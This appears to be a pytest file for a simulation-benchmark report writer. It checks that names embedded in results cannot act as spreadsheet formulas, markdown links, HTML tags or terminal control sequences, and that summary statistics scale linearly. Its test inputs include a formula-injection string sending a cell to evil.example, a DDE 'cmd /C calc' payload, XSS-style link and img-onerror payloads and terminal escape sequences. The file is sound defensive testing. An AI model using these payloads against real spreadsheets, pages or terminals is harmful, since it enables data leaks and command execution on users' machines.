"""Names that a spreadsheet, a page, markdown or a terminal would act on are shown; many records take linear time."""

from __future__ import annotations

import csv
import io
import json
import time
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from rich.table import Table

from sim2real.cli.terminal import PlainConsole
from sim2real.files.printable import printable
from sim2real.report import page as page_module
from sim2real.report import write_report
from sim2real.report.figures import table
from sim2real.report.markdown import _escape
from sim2real.stats import summarise
from sim2real.stats.records import BenchResults
from sim2real.stats.results_file import load_results
from tests.sim2real.report.test_report import GOOD, SCRATCH, arm, compare, make_results

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
LINK = "[reset](javascript:alert(1)) ![x](http://evil.example/x.png) <img src=x onerror=alert(1)>"
ESCAPE = "\x1b]0;owned\x07\x1b[2Jclean\r\u202eesrever\x9b31m"


def hostile(name: str) -> BenchResults:
    """A benchmark in which everything that has a name has this one."""
    good = [replace(r, env=name, target=name, source=name) for r in arm("scratch", SCRATCH)]
    bad = [replace(r, env=name, target=name, method=name) for r in arm("fine_tune", GOOD)]
    failed = replace(bad[0], seed=9, status="failed", error=name, steps=[], returns=[], return_sd=[])
    results = make_results(*good, *bad, failed)
    return replace(results, name=name, settings={name: [name, {name: 1}]}, versions={name: name}, default_method=name)


@pytest.mark.parametrize(
    "name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1"]
)
def test_no_name_is_a_formula_and_numbers_stay_numbers(name: str, tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(write_report(hostile(name), tmp_path).csv.read_text(encoding="utf-8"))))
    for row in rows:
        assert row["env"][0] == row["target"][0] == "'"
        assert row["method"] == "scratch" or row["method"][0] == "'"
        assert not any(value[:1] in ("=", "+", "@", "\t", "\r") for value in row.values())
    lost = [replace(r, returns=-r.returns) for r in compare(GOOD).records]
    plain = csv.DictReader(io.StringIO(write_report(make_results(*lost), tmp_path).csv.read_text(encoding="utf-8")))
    assert any(float(row["point"]) < 0.0 for row in plain if row["point"])


def test_markdown_has_no_link_image_tag_or_markup_that_a_name_brought(tmp_path: Path) -> None:
    text = write_report(hostile(LINK), tmp_path).markdown.read_text(encoding="utf-8")
    assert "](" not in text
    assert "<img" not in text
    assert "http://" not in text
    assert _escape("a*b* `c` _d_ frozen_encoder www.x.y") == r"a\*b\* \`c\` \_d\_ frozen_encoder www\.x.y"
    assert _escape("# x\n# y\r# z") == "# x # y\N{SYMBOL FOR CARRIAGE RETURN}# z"  # no line begins within a name
    page = write_report(hostile(LINK), tmp_path).html.read_text(encoding="utf-8")
    assert "<img" not in page


def test_control_characters_reach_no_file_and_no_terminal(tmp_path: Path) -> None:
    results = hostile(ESCAPE)
    paths = write_report(results, tmp_path)
    for path in (paths.html, paths.markdown, paths.csv):
        text = path.read_text(encoding="utf-8")
        assert printable(text) == text.replace("\r", "\N{SYMBOL FOR CARRIAGE RETURN}"), path.name
        assert "clean" in text
    assert load_results(paths.json) == results  # JSON keeps what there is, as escapes
    assert "\x1b" not in paths.json.read_text(encoding="utf-8")
    stream = io.StringIO()
    table = Table(title=ESCAPE)
    table.add_column("name")
    table.add_row(ESCAPE)
    PlainConsole(file=stream, width=80).print(table, ESCAPE)
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(stream.getvalue())
    assert "clean" in stream.getvalue()


def test_a_name_that_is_no_text_can_be_written(tmp_path: Path) -> None:
    results = hostile("caf\udce9")
    paths = write_report(results, tmp_path)
    assert "caf\N{REPLACEMENT CHARACTER}" in paths.html.read_text(encoding="utf-8")
    assert json.loads(paths.json.read_text(encoding="utf-8"))["name"] == "caf\udce9"


def _many(num: int, shape: str) -> BenchResults:
    """`num` finished records: many seeds, many targets, many environments or many methods."""
    scratch, good = arm("scratch", SCRATCH, 1)[0], arm("frozen_encoder", GOOD, 1)[0]
    if shape == "seeds":
        return make_results(*(replace(r, seed=i) for r in (scratch, good) for i in range(num // 2)))
    if shape == "methods":
        return make_results(
            *(replace(scratch, method=f"m{i // 5}" if i >= 5 else "scratch", seed=i % 5) for i in range(num))
        )
    pairs = [(r, seed) for r in (scratch, good) for seed in range(5)]
    return make_results(*(replace(r, seed=s, **{shape: f"x{i}"}) for i in range(num // 10) for r, s in pairs))


@pytest.mark.thorough
@pytest.mark.parametrize("shape", ["seeds", "methods", "target", "env"])
def test_statistics_take_time_in_proportion_to_the_records(shape: str) -> None:
    spent = []
    for num in (400, 1600):
        results = _many(num, shape)
        began = time.process_time()
        summary = summarise(results)
        spent.append(time.process_time() - began)
        assert summary.num_finished == num
    assert spent[1] < 8.0 * spent[0] + 0.2  # four times the records; in proportion to their square, sixteen


def test_of_many_targets_the_first_are_drawn_and_all_are_in_the_tables(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(table, "MOST", 2)
    monkeypatch.setattr(page_module, "MOST", 2)
    page = write_report(_many(40, "target"), tmp_path).html.read_text(encoding="utf-8")
    assert page.count("<figcaption>hopper \N{RIGHTWARDS ARROW} x1<") == page.count("<figcaption>") / 2
    assert "<figcaption>hopper \N{RIGHTWARDS ARROW} x2<" not in page
    assert "Pictures show the first 2 targets" in page
    assert page.count("hopper \N{RIGHTWARDS ARROW} x3, scratch") >= 1
    np.testing.assert_equal(len(summarise(_many(40, "target")).groups), 4)
